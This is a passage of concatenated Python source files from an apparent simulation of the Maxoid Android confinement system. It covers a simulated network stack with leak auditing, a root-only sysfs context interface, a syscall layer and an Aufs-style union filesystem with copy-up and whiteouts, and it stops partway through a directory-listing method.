from repro.errors import FileNotFound, NetworkUnreachable
from repro.kernel.proc import Process


@dataclass
class ConnectionRecord:
    """An audit record of one connection attempt (for the experiments)."""

    pid: int
    context: str
    host: str
    port: int
    allowed: bool


class Socket:
    """A connected socket: request/response over the simulated internet."""

    def __init__(self, stack: "NetworkStack", host: str, port: int) -> None:
        self._stack = stack
        self.host = host
        self.port = port
        self.sent: List[bytes] = []

    def send(self, data: bytes) -> int:
        """Send bytes to the remote host (recorded for leak auditing)."""
        self.sent.append(data)
        self._stack._record_egress(self.host, data)
        return len(data)

    def fetch(self, resource: str) -> bytes:
        """Request a named resource from the connected host."""
        return self._stack._serve(self.host, resource)

    def close(self) -> None:  # symmetry with real socket APIs
        pass


class TrustedCloudSocket:
    """A socket to a trusted-cloud backend, bound to a confinement domain.

    Implements the πBox-style extension the paper sketches in section 2.4:
    if an app's backend is hosted on a trusted cloud that continues the
    confinement server-side, a delegate may talk to *that backend only*,
    and whatever it sends stays inside its initiator's domain — readable
    later only by the same domain, never part of the public egress.
    """

    def __init__(self, cloud: "TrustedCloud", host: str, domain: str) -> None:
        self._cloud = cloud
        self.host = host
        self.domain = domain

    def send(self, data: bytes) -> int:
        self._cloud.store(self.host, self.domain, data)
        return len(data)

    def fetch(self, resource: str) -> bytes:
        return self._cloud.fetch(self.host, self.domain, resource)

    def put(self, resource: str, data: bytes) -> None:
        self._cloud.put(self.host, self.domain, resource, data)

    def close(self) -> None:
        pass


class TrustedCloud:
    """Server side of the trusted-cloud extension.

    Backends registered here are assumed to run on a platform that
    enforces Maxoid-style confinement in the cloud (πBox [18]): per-domain
    storage, no cross-domain flows. The simulation models exactly that: a
    (host, domain)-keyed store.
    """

    def __init__(self) -> None:
        # app package -> set of hosts that are its trusted backends.
        self._backends: Dict[str, set] = {}
        # (host, domain) -> resource -> bytes
        self._stores: Dict[tuple, Dict[str, bytes]] = {}
        # (host, domain) -> raw sends (for tests/auditing)
        self.received: Dict[tuple, List[bytes]] = {}

    def register_backend(self, app: str, host: str) -> None:
        self._backends.setdefault(app, set()).add(host)

    def is_backend_for(self, app: Optional[str], host: str) -> bool:
        return app is not None and host in self._backends.get(app, set())

    def store(self, host: str, domain: str, data: bytes) -> None:
        self.received.setdefault((host, domain), []).append(data)

    def put(self, host: str, domain: str, resource: str, data: bytes) -> None:
        self._stores.setdefault((host, domain), {})[resource] = data

    def fetch(self, host: str, domain: str, resource: str) -> bytes:
        try:
            return self._stores[(host, domain)][resource]
        except KeyError:
            raise FileNotFound(f"{host}/{resource} (domain {domain})")

    def domain_received(self, host: str, domain: str, secret: bytes) -> bool:
        return any(secret in p for p in self.received.get((host, domain), []))


class NetworkStack:
    """The device's network stack plus a miniature internet."""

    def __init__(self) -> None:
        # host -> resource name -> bytes
        self._hosts: Dict[str, Dict[str, bytes]] = {}
        self.connection_log: List[ConnectionRecord] = []
        # host -> list of payloads that reached it (the leak-audit surface)
        self.egress: Dict[str, List[bytes]] = {}
        #: The optional trusted-cloud extension (None = paper's default
        #: behaviour: delegates have no network at all).
        self.trusted_cloud: Optional[TrustedCloud] = None

    def enable_trusted_cloud(self) -> TrustedCloud:
        if self.trusted_cloud is None:
            self.trusted_cloud = TrustedCloud()
        return self.trusted_cloud

    # -- building the fake internet --------------------------------------

    def add_host(self, host: str) -> None:
        self._hosts.setdefault(host, {})

    def publish(self, host: str, resource: str, data: bytes) -> None:
        """Make ``data`` available at ``host`` under ``resource``."""
        self.add_host(host)
        self._hosts[host][resource] = data

    def hosted(self, host: str, resource: str) -> bytes:
        try:
            return self._hosts[host][resource]
        except KeyError:
            raise FileNotFound(f"{host}/{resource}")

    # -- the syscall surface ----------------------------------------------

    def connect(self, process: Process, host: str, port: int = 443):
        """Connect to ``host``; ENETUNREACH for delegates (paper 6.2).

        With the trusted-cloud extension enabled, a delegate may instead
        reach *its own app's* registered backend, receiving a
        domain-confined socket (section 2.4's πBox sketch).
        """
        context = process.context
        if context.is_delegate:
            cloud = self.trusted_cloud
            if cloud is not None and cloud.is_backend_for(context.app, host):
                self.connection_log.append(
                    ConnectionRecord(
                        pid=process.pid,
                        context=str(context),
                        host=host,
                        port=port,
                        allowed=True,
                    )
                )
                domain = context.initiator or ""
                return TrustedCloudSocket(cloud, host, domain)
            self.connection_log.append(
                ConnectionRecord(
                    pid=process.pid,
                    context=str(context),
                    host=host,
                    port=port,
                    allowed=False,
                )
            )
            raise NetworkUnreachable(
                f"{context} is a delegate; network is unreachable"
            )
        self.connection_log.append(
            ConnectionRecord(
                pid=process.pid,
                context=str(context),
                host=host,
                port=port,
                allowed=True,
            )
        )
        if host not in self._hosts:
            raise FileNotFound(f"no such host: {host}")
        return Socket(self, host, port)

    # -- internals ----------------------------------------------------------

    def _serve(self, host: str, resource: str) -> bytes:
        return self.hosted(host, resource)

    def _record_egress(self, host: str, data: bytes) -> None:
        self.egress.setdefault(host, []).append(data)

    # -- audit helpers ------------------------------------------------------

    def leaked_to_network(self, secret: bytes) -> bool:
        """True if ``secret`` ever left the device (substring match)."""
        return any(
            secret in payload for payloads in self.egress.values() for payload in payloads
        )

    def denied_attempts(self) -> List[ConnectionRecord]:
        return [r for r in self.connection_log if not r.allowed]
