"""The sysfs channel Zygote uses to stamp app identity onto a task.

Paper section 6.2: "We add a sysfs interface for Zygote to communicate app
and initiator information to the process' task_struct." Here the interface
is a tiny write-only file-like API: Zygote writes ``app`` and ``initiator``
for a pid, and the kernel updates the task's :class:`TaskContext`. Only
root may write (Zygote writes before dropping privileges).
"""

from __future__ import annotations

from typing import Optional

from repro.errors import PermissionDenied
from repro.kernel.proc import ProcessTable, TaskContext
from repro.kernel.vfs import Credentials


class Sysfs:
    """The ``/sys/kernel/maxoid`` interface (simulated)."""

    def __init__(self, process_table: ProcessTable) -> None:
        self._processes = process_table

    def write_context(
        self,
        pid: int,
        app: str,
        initiator: Optional[str],
        cred: Credentials,
    ) -> None:
        """Stamp process ``pid`` with its Maxoid execution context.

        Raises :class:`PermissionDenied` unless called as root — an app that
        has already dropped privileges cannot rewrite its own identity.
        """
        if not cred.is_root:
            raise PermissionDenied("only root may write the maxoid sysfs interface")
        process = self._processes.get(pid)
        process.context = TaskContext(app=app, initiator=initiator)

    def read_context(self, pid: int) -> TaskContext:
        """Read a task's context (world-readable, like much of sysfs)."""
        return self._processes.get(pid).context
