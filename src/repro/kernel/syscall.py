"""The syscall layer: filesystem operations bound to a process.

Every simulated app performs file I/O through a :class:`Syscalls` object,
which resolves paths through the *process's own* mount namespace with the
process's credentials. This is the choke point that makes Maxoid's view
switching transparent: the same ``open("/storage/sdcard/doc.pdf")`` reaches
a different filesystem depending on which process issued it.

Open flags mirror POSIX names (``O_RDONLY`` etc.) so simulated app code
reads naturally.
"""

from __future__ import annotations

from contextlib import contextmanager, nullcontext
from typing import Iterator, List, Optional

from repro.errors import CrossDeviceLink, NoSuchProcess
from repro.faults import FAULTS as _FAULTS
from repro.kernel import path as vpath
from repro.kernel.proc import Process
from repro.kernel.vfs import FileHandle, Stat
from repro.obs import DEFAULT_BYTE_BUCKETS
from repro.sched import SCHED as _SCHED

O_RDONLY = 0x0
O_WRONLY = 0x1
O_RDWR = 0x2
O_CREAT = 0x40
O_EXCL = 0x80
O_TRUNC = 0x200
O_APPEND = 0x400


class Syscalls:
    """File-related syscalls for one process."""

    def __init__(self, process: Process) -> None:
        self.process = process
        # The owning device's observability context, resolved through the
        # process this syscall table acts for (one load + branch when off).
        self.obs = process.obs

    def _check_alive(self) -> None:
        if not self.process.alive:
            raise NoSuchProcess(f"pid {self.process.pid} has exited")

    # ------------------------------------------------------------------

    def open(self, path: str, flags: int = O_RDONLY, mode: int = 0o644) -> FileHandle:
        """Open ``path`` with POSIX-style ``flags``; returns a file handle."""
        if self.obs.enabled:
            with self.obs.tracer.span(
                "vfs.open", ctx=str(self.process.context), path=path, flags=flags
            ):
                self.obs.metrics.count("vfs.open")
                return self._open_impl(path, flags, mode)
        return self._open_impl(path, flags, mode)

    @contextmanager
    def _io_locks(self, path: str, write: bool) -> Iterator[None]:
        """Scheduler-mode lock discipline for whole-file I/O: the mount
        namespace's read lock around resolution, then the resolved
        filesystem's rwlock in the I/O mode — the canonical ns -> fs
        acquisition order the lock-order checker validates."""
        namespace = self.process.namespace
        ns_lock = getattr(namespace, "rwlock", None)
        with ns_lock.read() if ns_lock is not None else nullcontext():
            fs, _inner = namespace.resolve(path)
            fs_lock = getattr(fs, "rwlock", None)
            if fs_lock is None:
                yield
            else:
                with fs_lock.write() if write else fs_lock.read():
                    yield

    def _open_impl(self, path: str, flags: int, mode: int) -> FileHandle:
        self._check_alive()
        if _SCHED.enabled:
            accmode = flags & 0o3
            is_write = bool(accmode or flags & (O_CREAT | O_TRUNC | O_APPEND))
            # Yield *inside* the lock scope so the access annotation
            # reflects the locks actually protecting the operation.
            with self._io_locks(path, write=is_write):
                _SCHED.yield_point(
                    "vfs.open",
                    path=path,
                    resource=f"file:{path}",
                    rw="w" if is_write else "r",
                )
                return self._open_locked(path, flags, mode)
        return self._open_locked(path, flags, mode)

    def _open_locked(self, path: str, flags: int, mode: int) -> FileHandle:
        fs, inner = self.process.namespace.resolve(path)
        accmode = flags & 0o3
        read = accmode in (O_RDONLY, O_RDWR)
        write = accmode in (O_WRONLY, O_RDWR)
        if self.obs.prov:
            # Copy-up may fire inside fs.open(); the actor stack tells the
            # ledger which process the copied data is flowing on behalf of.
            self.obs.provenance.push_actor(str(self.process.context), self.process.pid)
            try:
                return self._fs_open(fs, inner, read, write, flags, mode)
            finally:
                self.obs.provenance.pop_actor()
        return self._fs_open(fs, inner, read, write, flags, mode)

    def _fs_open(self, fs, inner: str, read: bool, write: bool, flags: int, mode: int) -> FileHandle:
        return fs.open(
            inner,
            self.process.cred,
            read=read,
            write=write,
            create=bool(flags & O_CREAT),
            truncate=bool(flags & O_TRUNC),
            append=bool(flags & O_APPEND),
            exclusive=bool(flags & O_EXCL),
            mode=mode,
        )

    def stat(self, path: str) -> Stat:
        self._check_alive()
        fs, inner = self.process.namespace.resolve(path)
        return fs.stat(inner, self.process.cred)

    def exists(self, path: str) -> bool:
        self._check_alive()
        fs, inner = self.process.namespace.resolve(path)
        return fs.exists(inner, self.process.cred)

    def mkdir(self, path: str, mode: int = 0o755, parents: bool = False) -> None:
        self._check_alive()
        fs, inner = self.process.namespace.resolve(path)
        fs.mkdir(inner, self.process.cred, mode=mode, parents=parents)

    def listdir(self, path: str) -> List[str]:
        self._check_alive()
        fs, inner = self.process.namespace.resolve(path)
        return fs.readdir(inner, self.process.cred)

    def unlink(self, path: str) -> None:
        self._check_alive()
        fs, inner = self.process.namespace.resolve(path)
        fs.unlink(inner, self.process.cred)

    def rmdir(self, path: str) -> None:
        self._check_alive()
        fs, inner = self.process.namespace.resolve(path)
        fs.rmdir(inner, self.process.cred)

    def rename(self, old: str, new: str) -> None:
        """Rename; raises EXDEV when old and new live on different mounts."""
        self._check_alive()
        old_point, old_fs = self.process.namespace.mount_for(old)
        new_point, new_fs = self.process.namespace.mount_for(new)
        if old_fs is not new_fs:
            raise CrossDeviceLink(f"{old} and {new} are on different mounts")
        _, old_inner = self.process.namespace.resolve(old)
        _, new_inner = self.process.namespace.resolve(new)
        old_fs.rename(old_inner, new_inner, self.process.cred)

    # -- convenience wrappers -------------------------------------------

    def read_file(self, path: str) -> bytes:
        if self.obs.enabled:
            with self.obs.tracer.span(
                "vfs.read", ctx=str(self.process.context), path=path
            ) as span:
                data = self._read_file_impl(path)
                span.set(bytes=len(data))
                self.obs.metrics.count("vfs.read")
                self.obs.metrics.observe("vfs.read.bytes", len(data), DEFAULT_BYTE_BUCKETS)
                return data
        return self._read_file_impl(path)

    def _read_file_impl(self, path: str) -> bytes:
        if _SCHED.enabled:
            with self._io_locks(path, write=False):
                _SCHED.yield_point(
                    "vfs.read", path=path, resource=f"file:{path}", rw="r"
                )
                return self._read_file_body(path)
        return self._read_file_body(path)

    def _read_file_body(self, path: str) -> bytes:
        with self.open(path, O_RDONLY) as handle:
            data = handle.read()
            if self.obs.prov:
                self.obs.provenance.read(
                    self.process.pid, str(self.process.context), path, ino=handle.ino
                )
            return data

    def write_file(self, path: str, data: bytes, mode: int = 0o644) -> None:
        if _FAULTS.enabled:
            _FAULTS.hit(
                "vfs.write",
                ctx=str(self.process.context),
                path=path,
                device_id=self.obs.device_id,
            )
        if self.obs.enabled:
            with self.obs.tracer.span(
                "vfs.write", ctx=str(self.process.context), path=path, bytes=len(data)
            ):
                self.obs.metrics.count("vfs.write")
                self.obs.metrics.observe("vfs.write.bytes", len(data), DEFAULT_BYTE_BUCKETS)
                return self._write_file_impl(path, data, mode)
        return self._write_file_impl(path, data, mode)

    def _write_file_impl(self, path: str, data: bytes, mode: int = 0o644) -> None:
        if _SCHED.enabled:
            with self._io_locks(path, write=True):
                _SCHED.yield_point(
                    "vfs.write", path=path, resource=f"file:{path}", rw="w"
                )
                return self._write_file_body(path, data, mode)
        return self._write_file_body(path, data, mode)

    def _write_file_body(self, path: str, data: bytes, mode: int = 0o644) -> None:
        with self.open(path, O_WRONLY | O_CREAT | O_TRUNC, mode=mode) as handle:
            handle.write(data)
            if self.obs.prov:
                self.obs.provenance.write(
                    self.process.pid, str(self.process.context), path, ino=handle.ino
                )

    def append_file(self, path: str, data: bytes) -> None:
        if _FAULTS.enabled:
            _FAULTS.hit(
                "vfs.write",
                ctx=str(self.process.context),
                path=path,
                device_id=self.obs.device_id,
            )
        if self.obs.enabled:
            with self.obs.tracer.span(
                "vfs.write", ctx=str(self.process.context), path=path,
                bytes=len(data), append=True,
            ):
                self.obs.metrics.count("vfs.write")
                self.obs.metrics.observe("vfs.write.bytes", len(data), DEFAULT_BYTE_BUCKETS)
                return self._append_file_impl(path, data)
        return self._append_file_impl(path, data)

    def _append_file_impl(self, path: str, data: bytes) -> None:
        if _SCHED.enabled:
            with self._io_locks(path, write=True):
                _SCHED.yield_point(
                    "vfs.write", path=path, resource=f"file:{path}", rw="w"
                )
                return self._append_file_body(path, data)
        return self._append_file_body(path, data)

    def _append_file_body(self, path: str, data: bytes) -> None:
        with self.open(path, O_WRONLY | O_APPEND) as handle:
            handle.write(data)
            if self.obs.prov:
                self.obs.provenance.write(
                    self.process.pid, str(self.process.context), path, ino=handle.ino
                )

    def copy_file(self, src: str, dst: str, mode: int = 0o644) -> None:
        self.write_file(dst, self.read_file(src), mode=mode)

    def makedirs(self, path: str, mode: int = 0o755) -> None:
        """mkdir -p: create ``path`` and any missing ancestors."""
        self.mkdir(path, mode=mode, parents=True)

    def walk_files(self, top: str) -> List[str]:
        """All file paths under ``top`` (depth-first, sorted)."""
        found: List[str] = []
        stack = [vpath.normalize(top)]
        while stack:
            current = stack.pop()
            for name in sorted(self.listdir(current), reverse=True):
                child = vpath.join(current, name)
                if self.stat(child).is_dir:
                    stack.append(child)
                else:
                    found.append(child)
        return sorted(found)
