"""A from-scratch union filesystem modelled on Aufs.

The paper (section 4.2) builds Maxoid's custom views of files on Aufs: a
union mount presents several *branches* (directories in underlying
filesystems) as a single tree. The branch with the highest priority wins on
name collisions; if only one branch is writable, all writes are confined to
it, and modifying a file that lives in a read-only branch first *copies it
up* into the writable branch. Deleting a file that exists in a read-only
branch leaves a *whiteout* marker in the writable branch so the name
disappears from the merged view.

This module implements those semantics:

- ordered branches, each ``(filesystem, root-subdirectory, writable?)``;
- per-file copy-on-write via copy-up on the first write/append/truncate;
- whiteouts (``.wh.<name>``) and opaque directories (``.wh..wh..opq``) for
  deletions that must mask lower branches;
- the Maxoid modification: ``always_allow_read=True`` lets a mount bypass
  lower-branch permission checks, which is how a delegate (different UID)
  reads its initiator's private files. Maxoid only creates such mounts when
  policy allows the access, and apps cannot mount Aufs themselves once
  Zygote drops root (paper section 4.2). The same flag permits the copy-up
  that redirects a delegate's write into its own writable branch.

Branch-internal operations run as root: in the real system the branch
directories live in paths only root can reach, and apps can only touch them
through the mount point, where the union enforces the merged view's checks.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, List, Optional, Tuple

from repro.errors import (
    DirectoryNotEmpty,
    FileExists,
    FileNotFound,
    IsADirectory,
    NotADirectory,
    PermissionDenied,
    ReadOnlyFilesystem,
)
from repro.faults import FAULTS as _FAULTS
from repro.kernel import path as vpath
from repro.obs import DEFAULT_BYTE_BUCKETS, OBS as _OBS
from repro.kernel.vfs import (
    Credentials,
    FileHandle,
    Filesystem,
    FilesystemAPI,
    InodeKind,
    ROOT_CRED,
    Stat,
)
from repro.sched import SCHED as _SCHED
from repro.sched.locks import RWLock

WHITEOUT_PREFIX = ".wh."
OPAQUE_MARKER = ".wh..wh..opq"
#: Copy-up staging name. The ``.wh.`` prefix keeps in-flight temp files out
#: of the merged readdir view, so a crash mid-copy-up never exposes a torn
#: partial file through the union; recovery just purges leftovers.
COPYUP_TMP_PREFIX = ".wh..wh.cpup."


@dataclass
class Branch:
    """One layer of a union mount.

    ``fs`` is the backing filesystem, ``root`` the subdirectory within it
    that this branch exposes, and ``writable`` whether writes may land here.
    At most one branch of a mount may be writable (as in the paper's mounts,
    Table 2).
    """

    fs: Filesystem
    root: str = "/"
    writable: bool = False
    label: str = ""

    def path(self, union_path: str) -> str:
        """Translate a union-relative path into this branch's filesystem."""
        return vpath.join(self.root, union_path)

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        rw = "rw" if self.writable else "ro"
        return f"<Branch {self.label or self.root} ({rw})>"


def _whiteout_path(branch: Branch, union_path: str) -> str:
    parent = vpath.parent(union_path)
    name = vpath.basename(union_path)
    return vpath.join(branch.path(parent), WHITEOUT_PREFIX + name)


class _AufsFileHandle(FileHandle):
    """File handle that counts copy-up work for the performance model."""


class AufsMount(FilesystemAPI):
    """A union of branches presented as a single filesystem.

    Branches are ordered highest-priority first. Statistics counters
    (``copy_up_count``, ``copy_up_bytes``, ``lookup_branches_scanned``)
    feed the reproduction's latency model: the paper's Table 3 delegate
    overheads come precisely from multi-branch lookups and copy-up.
    """

    def __init__(
        self,
        branches: List[Branch],
        *,
        always_allow_read: bool = False,
        label: str = "",
        obs: Optional[Any] = None,
    ) -> None:
        if not branches:
            raise ValueError("an Aufs mount needs at least one branch")
        writable = [i for i, b in enumerate(branches) if b.writable]
        if len(writable) > 1:
            raise ValueError("at most one writable branch is supported")
        self.branches = list(branches)
        self._writable_index: Optional[int] = writable[0] if writable else None
        self.always_allow_read = always_allow_read
        self.label = label
        self.copy_up_count = 0
        self.copy_up_bytes = 0
        self.lookup_branches_scanned = 0
        # The owning device's observability context (the branch manager
        # passes its device's handle; bare mounts fall back to OBS).
        self.obs = obs if obs is not None else _OBS
        self.rwlock = RWLock(f"aufs:{label or 'union'}")
        for branch in self.branches:
            if not branch.fs.exists(branch.root, ROOT_CRED):
                branch.fs.mkdir(branch.root, ROOT_CRED, parents=True)
        # Single-branch mounts (every initiator mount, Table 2) take a
        # passthrough fast path: no whiteout/masking machinery can apply,
        # which is how the paper gets "no overhead for initiators".
        self._single = self.branches[0] if len(self.branches) == 1 else None

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        return f"<AufsMount {self.label} branches={self.branches!r}>"

    @property
    def writable_branch(self) -> Optional[Branch]:
        if self._writable_index is None:
            return None
        return self.branches[self._writable_index]

    # ------------------------------------------------------------------
    # Visibility
    # ------------------------------------------------------------------

    def _hidden_by_upper(self, index: int, union_path: str) -> bool:
        """True if branch ``index``'s entry at ``union_path`` is masked by a
        whiteout, opaque directory, or shadowing file in a higher branch."""
        components = vpath.split(union_path)
        for j in range(index):
            upper = self.branches[j]
            current = upper.root
            masked = False
            for depth, component in enumerate(components):
                whiteout = vpath.join(current, WHITEOUT_PREFIX + component)
                if upper.fs.exists(whiteout, ROOT_CRED):
                    masked = True
                    break
                nxt = vpath.join(current, component)
                if not upper.fs.exists(nxt, ROOT_CRED):
                    break
                stat = upper.fs.stat(nxt, ROOT_CRED)
                is_last = depth == len(components) - 1
                if stat.is_file and not is_last:
                    # A file in an upper branch shadows lower directories.
                    masked = True
                    break
                if stat.is_dir and not is_last:
                    opaque = vpath.join(nxt, OPAQUE_MARKER)
                    if upper.fs.exists(opaque, ROOT_CRED):
                        masked = True
                        break
                current = nxt
            if masked:
                return True
        return False

    def _find(self, union_path: str) -> Tuple[int, Stat]:
        """Locate the topmost visible instance of ``union_path``.

        Returns ``(branch_index, stat)`` or raises :class:`FileNotFound`.
        """
        if self.obs.enabled:
            self.obs.metrics.count("aufs.lookup")
        for index, branch in enumerate(self.branches):
            self.lookup_branches_scanned += 1
            if self.obs.enabled:
                self.obs.metrics.count("aufs.lookup.branches_scanned")
            branch_path = branch.path(union_path)
            if not branch.fs.exists(branch_path, ROOT_CRED):
                continue
            if self._hidden_by_upper(index, union_path):
                # Higher branches mask everything below; nothing further
                # down can be visible either.
                raise FileNotFound(union_path)
            return index, branch.fs.stat(branch_path, ROOT_CRED)
        raise FileNotFound(union_path)

    def _check_access(self, stat: Stat, cred: Credentials, want: int) -> None:
        """Enforce the merged view's permission bits.

        Reads (and the copy-up that precedes a redirected write) are exempt
        when ``always_allow_read`` is set — the Maxoid Aufs patch.
        """
        if self.always_allow_read or cred.is_root:
            return
        if cred.uid == stat.uid:
            granted = (stat.mode >> 6) & 0o7
        elif cred.gid == stat.gid and stat.gid != 0:
            granted = (stat.mode >> 3) & 0o7
        else:
            granted = stat.mode & 0o7
        if (granted & want) != want:
            raise PermissionDenied(f"access {want:o} denied (mode {stat.mode:o})")

    # ------------------------------------------------------------------
    # Write plumbing
    # ------------------------------------------------------------------

    def _require_writable(self) -> Branch:
        branch = self.writable_branch
        if branch is None:
            raise ReadOnlyFilesystem(self.label or "no writable branch")
        return branch

    def _ensure_parents(self, union_path: str) -> None:
        """Replicate the ancestor directory chain into the writable branch."""
        branch = self._require_writable()
        partial = "/"
        for component in vpath.split(vpath.parent(union_path)):
            partial = vpath.join(partial, component)
            target = branch.path(partial)
            if not branch.fs.exists(target, ROOT_CRED):
                # The directory must be visible in the union for the write
                # to be legal; copy its mode from the visible instance.
                index, stat = self._find(partial)
                if not stat.is_dir:
                    raise NotADirectory(partial)
                branch.fs.mkdir(target, ROOT_CRED, mode=stat.mode)
                branch.fs.chown(target, stat.uid, gid=stat.gid)

    def _drop_whiteout(self, union_path: str) -> None:
        branch = self._require_writable()
        whiteout = _whiteout_path(branch, union_path)
        if branch.fs.exists(whiteout, ROOT_CRED):
            branch.fs.unlink(whiteout, ROOT_CRED)

    def _copy_up(self, union_path: str, source_index: int, cred: Credentials) -> None:
        """Copy a lower-branch file into the writable branch (copy-on-write).

        The copy is owned by the writer, matching Maxoid's redirect
        semantics: after copy-up the delegate owns its private copy.
        """
        if self.obs.enabled:
            with self.obs.tracer.span(
                "aufs.copy_up", mount=self.label, path=union_path
            ) as span:
                self._copy_up_impl(union_path, source_index, cred, span)
            return
        self._copy_up_impl(union_path, source_index, cred, None)

    def _copy_up_impl(self, union_path, source_index, cred, span) -> None:
        if _FAULTS.enabled:
            _FAULTS.hit(
                "aufs.copy_up",
                mount=self.label,
                path=union_path,
                device_id=self.obs.device_id,
            )
        if _SCHED.enabled:
            with self.rwlock.write():
                _SCHED.yield_point(
                    "aufs.copy_up",
                    path=union_path,
                    resource=f"file:{union_path}",
                    rw="w",
                )
                return self._copy_up_body(union_path, source_index, cred, span)
        return self._copy_up_body(union_path, source_index, cred, span)

    def _copy_up_body(self, union_path, source_index, cred, span) -> None:
        branch = self._require_writable()
        source = self.branches[source_index]
        data = source.fs.read_file(source.path(union_path), ROOT_CRED)
        stat = source.fs.stat(source.path(union_path), ROOT_CRED)
        self._ensure_parents(union_path)
        self._drop_whiteout(union_path)
        target = branch.path(union_path)
        # Crash-atomic: stage the copy under a whiteout-prefixed temp name
        # (invisible through the union), then publish it with an atomic
        # rename — a crash at any intermediate point leaves either the old
        # view or the new one, never a torn file.
        staging = vpath.join(
            branch.path(vpath.parent(union_path)),
            COPYUP_TMP_PREFIX + vpath.basename(union_path),
        )
        branch.fs.write_file(staging, data, ROOT_CRED, mode=stat.mode | 0o600)
        branch.fs.chown(staging, cred.uid, gid=cred.gid)
        if _FAULTS.enabled:
            _FAULTS.hit(
                "aufs.copy_up.publish",
                mount=self.label,
                path=union_path,
                device_id=self.obs.device_id,
            )
        if _SCHED.enabled:
            _SCHED.yield_point("aufs.copy_up.publish", path=union_path)
        branch.fs.rename(staging, target, ROOT_CRED)
        if self.obs.prov:
            self.obs.provenance.copy_up(
                stat.ino,
                branch.fs.stat(target, ROOT_CRED).ino,
                union_path,
                mount=self.label,
            )
        self.copy_up_count += 1
        self.copy_up_bytes += len(data)
        if span is not None:
            span.set(bytes=len(data), branch=branch.label or branch.root)
            self.obs.metrics.count("aufs.copy_up")
            self.obs.metrics.count("aufs.copy_up.bytes", len(data))
            self.obs.metrics.observe("aufs.copy_up.size", len(data), DEFAULT_BYTE_BUCKETS)

    def _copy_up_tree(self, union_path: str, cred: Credentials) -> None:
        """Recursively materialize a visible subtree in the writable branch."""
        index, stat = self._find(union_path)
        if stat.is_file:
            if not self.branches[index].writable:
                self._copy_up(union_path, index, cred)
            return
        branch = self._require_writable()
        target = branch.path(union_path)
        if not branch.fs.exists(target, ROOT_CRED):
            self._ensure_parents(union_path)
            self._drop_whiteout(union_path)
            branch.fs.mkdir(target, ROOT_CRED, mode=stat.mode)
        for name in self.readdir(union_path, ROOT_CRED):
            self._copy_up_tree(vpath.join(union_path, name), cred)

    # ------------------------------------------------------------------
    # FilesystemAPI
    # ------------------------------------------------------------------

    def stat(self, path: str, cred: Credentials) -> Stat:
        """Stat the topmost visible instance of ``path``."""
        if self._single is not None:
            return self._single.fs.stat(self._single.path(path), ROOT_CRED)
        _, stat = self._find(path)
        return stat

    def open(
        self,
        path: str,
        cred: Credentials,
        *,
        read: bool = True,
        write: bool = False,
        create: bool = False,
        truncate: bool = False,
        append: bool = False,
        exclusive: bool = False,
        mode: int = 0o644,
    ) -> FileHandle:
        if self.obs.enabled:
            wb = self.writable_branch
            with self.obs.tracer.span(
                "aufs.open",
                mount=self.label,
                path=path,
                write=write or truncate or append,
                writable_branch=(wb.label or wb.root) if wb is not None else None,
                writable_root=wb.root if wb is not None else None,
            ):
                self.obs.metrics.count("aufs.open")
                return self._open_impl(
                    path,
                    cred,
                    read=read,
                    write=write,
                    create=create,
                    truncate=truncate,
                    append=append,
                    exclusive=exclusive,
                    mode=mode,
                )
        return self._open_impl(
            path,
            cred,
            read=read,
            write=write,
            create=create,
            truncate=truncate,
            append=append,
            exclusive=exclusive,
            mode=mode,
        )

    def _open_impl(
        self,
        path: str,
        cred: Credentials,
        *,
        read: bool = True,
        write: bool = False,
        create: bool = False,
        truncate: bool = False,
        append: bool = False,
        exclusive: bool = False,
        mode: int = 0o644,
    ) -> FileHandle:
        wants_write = write or truncate or append
        if self._single is not None and self._single.writable:
            target = self._single.path(path)
            fresh = create and not self._single.fs.exists(target, ROOT_CRED)
            handle = self._single.fs.open(
                target,
                ROOT_CRED,
                read=read,
                write=write,
                create=create,
                truncate=truncate,
                append=append,
                exclusive=exclusive,
                mode=mode,
            )
            if fresh:
                self._single.fs.chown(target, cred.uid, gid=cred.gid)
            return handle
        try:
            index, stat = self._find(path)
            exists = True
        except FileNotFound:
            exists = False
            index, stat = -1, None
        if exists and exclusive and create:
            raise FileExists(path)
        if not exists:
            if not create:
                raise FileNotFound(path)
            branch = self._require_writable()
            self._ensure_parents(path)
            self._drop_whiteout(path)
            target = branch.path(path)
            handle = branch.fs.open(
                target,
                ROOT_CRED,
                read=read,
                write=True,
                create=True,
                truncate=truncate,
                append=append,
                mode=mode,
            )
            branch.fs.chown(target, cred.uid, gid=cred.gid)
            return handle
        assert stat is not None
        if stat.is_dir:
            raise IsADirectory(path)
        if read:
            self._check_access(stat, cred, 0o4)
        if wants_write:
            self._check_access(stat, cred, 0o2)
            if not self.branches[index].writable:
                self._copy_up(path, index, cred)
                index = self._writable_index  # type: ignore[assignment]
        branch = self.branches[index]
        return branch.fs.open(
            branch.path(path),
            ROOT_CRED,
            read=read,
            write=wants_write and not append,
            truncate=truncate,
            append=append,
        )

    def mkdir(self, path: str, cred: Credentials, mode: int = 0o755, parents: bool = False) -> None:
        if self._single is not None and self._single.writable:
            self._single.fs.mkdir(self._single.path(path), ROOT_CRED, mode=mode, parents=parents)
            return
        branch = self._require_writable()
        if parents:
            partial = "/"
            for component in vpath.split(path):
                partial = vpath.join(partial, component)
                if not self.exists(partial, cred):
                    self.mkdir(partial, cred, mode=mode, parents=False)
            return
        if self.exists(path, cred):
            raise FileExists(path)
        had_whiteout = branch.fs.exists(_whiteout_path(branch, path), ROOT_CRED)
        self._ensure_parents(path)
        self._drop_whiteout(path)
        target = branch.path(path)
        branch.fs.mkdir(target, ROOT_CRED, mode=mode)
        branch.fs.chown(target, cred.uid, gid=cred.gid)
        if had_whiteout:
            # The name was deleted earlier; the fresh directory must not let
            # stale lower-branch entries show through.
            branch.fs.write_file(vpath.join(target, OPAQUE_MARKER), b"", ROOT_CRED)

    def readdir(self, path: str, cred: Credentials) -> List[str]:
        if self._single is not None:
            return self._single.fs.readdir(self._single.path(path), ROOT_CRED)
        index, stat = self._find(path)
        if not stat.is_dir:
            raise NotADirectory(path)
        self._check_access(stat, cred, 0o4)
        names: List[str] = []
        seen = set()
        hidden = set()
        for i in range(index, len(self.branches)):
            branch = self.branches[i]
            branch_dir = branch.path(path)
            if not branch.fs.exists(branch_dir, ROOT_CRED):
                continue
            if not branch.fs.stat(branch_dir, ROOT_CRED).is_dir:
                break
            if i > index and self._hidden_by_upper(i, path):
                break
            opaque = False
            for name in branch.fs.readdir(branch_dir, ROOT_CRED):
                if name == OPAQUE_MARKER:
